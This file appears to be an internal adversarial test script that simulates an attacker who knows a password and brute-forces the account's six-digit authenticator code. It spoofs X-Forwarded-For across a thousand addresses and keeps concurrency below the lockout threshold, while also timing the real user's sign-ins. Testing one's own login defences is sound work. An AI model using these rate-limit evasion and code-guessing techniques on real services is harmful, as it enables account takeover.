/**
 * Simulates a stranger who knows a password and guesses the code from a thousand IP addresses. Prints the answers to
 * the guesses, and the duration of sign-ins of the account's real user at the same time.
 *
 *     node infra/trials/hostile/code-guesses.ts <internal URL of the gateway> <name> <password> [guesses] [mail page]
 *
 * The program calls the gateway directly, which trusts the IP address in the request's header. The account must have no
 * second factor. It gets an authenticator app, and must wait for a day after the trial. 10,000 guesses take about 12
 * minutes.
 */
import { createHmac } from 'node:crypto';
import { setTimeout as pause } from 'node:timers/promises';

const [gateway, username, password, guesses = '10000', mailPage] = process.argv.slice(2);
if (!gateway || !username || !password)
  throw new Error('code-guesses.ts <gateway> <name> <password> [guesses] [mail page]');

const addressCount = 1000;
/**
 * Number of parallel guesses. It is below the number of failures that starts a limit on attempts, so that each guess
 * reaches the password check.
 */
const atOnce = 80;
const ownAddress = '198.18.255.1';

interface Answer {
  status: number;
  code: string;
  cookies: string[];
  body: Record<string, unknown>;
  ms: number;
}

async function post(path: string, body: object, { address = ownAddress, cookie = '' } = {}): Promise<Answer> {
  const begun = performance.now();
  const answer = await fetch(`${gateway}/api/user${path}`, {
    method: 'POST',
    headers: {
      'Content-Type': 'application/json',
      'Sec-Fetch-Site': 'same-origin',
      'X-Forwarded-For': address,
      Cookie: cookie,
    },
    body: JSON.stringify(body),
  });
  const text = await answer.text();
  const parsed = (text ? JSON.parse(text) : {}) as Record<string, unknown>;
  const cookies = answer.headers.getSetCookie().map((line) => line.split(';')[0] ?? '');
  return {
    status: answer.status,
    code: String(parsed['code'] ?? ''),
    cookies,
    body: parsed,
    ms: performance.now() - begun,
  };
}

const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';

function codeOf(secret: string): string {
  const bits = [...secret].map((sign) => alphabet.indexOf(sign).toString(2).padStart(5, '0')).join('');
  const key = Buffer.from((bits.match(/.{8}/g) ?? []).map((byte) => parseInt(byte, 2)));
  const step = Buffer.alloc(8);
  step.writeBigUInt64BE(BigInt(Math.floor(Date.now() / 30_000)));
  const mac = createHmac('sha1', key).update(step).digest();
  const offset = (mac.at(-1) ?? 0) & 15;
  return String((mac.readUInt32BE(offset) & 0x7fffffff) % 1_000_000).padStart(6, '0');
}

/** Waits for the next half minute, because each code works only once. @returns the code of that half minute */
const nextCode = async (secret: string): Promise<string> => {
  await pause(30_500 - (Date.now() % 30_000));
  return codeOf(secret);
};

async function setUp(): Promise<{ device: string; secret: string }> {
  const { status, code, cookies } = await post('/login', { username, password });
  if (status !== 200) throw new Error(`could not sign in: ${status} ${code}`);
  const cookie = cookies.join('; ');
  const begun = await post('/second-factor', { currentPassword: password }, { cookie });
  const secret = String(begun.body['secret']);
  const confirmed = await post('/second-factor/confirm', { code: codeOf(secret) }, { cookie });
  if (confirmed.status !== 200) throw new Error(`no second factor: ${confirmed.status} ${confirmed.code}`);
  return { device: cookies.find((text) => text.includes('sandhill_device')) ?? '', secret };
}

const counts = new Map<string, number>();
const note = (answer: string) => counts.set(answer, (counts.get(answer) ?? 0) + 1);
const addressOf = (index: number) => {
  const host = index % addressCount;
  return `198.18.${host >> 8}.${host & 255}`;
};

async function guess(index: number): Promise<void> {
  const code = String(index % 1_000_000).padStart(6, '0');
  const { status, code: word } = await post(
    '/login',
    { username, password, code },
    { address: addressOf(index) },
  );
  note(`${status} ${word}`.trim());
}

async function guessAll(): Promise<void> {
  let next = 0;
  const worker = async () => {
    while (next < Number(guesses)) await guess(next++);
  };
  await Promise.all(Array.from({ length: atOnce }, worker));
}

const { device, secret } = await setUp();
const ownSignIn = async (code: string) => {
  const answer = await post('/login', { username, password, code }, { cookie: device });
  console.log(`the user signs in: ${answer.status} ${answer.code} after ${answer.ms.toFixed(0)} ms`);
};

const readyCode = await nextCode(secret);
const many = Array.from({ length: 105 }, (_, index) =>
  post('/login', { username, password: `not it ${index}` }, { address: `198.19.0.${index}` }),
);
await ownSignIn(readyCode);
const answers = await Promise.all(many);
const statuses = answers.map(({ status }) => status);
console.log(`105 wrong passwords at once: ${[...new Set(statuses)].join(', ')}`);

const over = new AbortController();
const begun = performance.now();
const meanwhile = (async () => {
  while (!over.signal.aborted) await ownSignIn(await nextCode(secret));
})();
await guessAll();
over.abort();
await meanwhile;
console.log(`${guesses} guesses in ${((performance.now() - begun) / 1000).toFixed(0)} s:`);
for (const [answer, count] of [...counts].toSorted()) console.log(`  ${answer}: ${count}`);
if (mailPage) {
  const mails = (await (await fetch(`${mailPage}/email`)).json()) as Array<{ subject: string; date: string }>;
  for (const { subject, date } of mails.slice(-5)) console.log(`mail ${date}: ${subject}`);
}
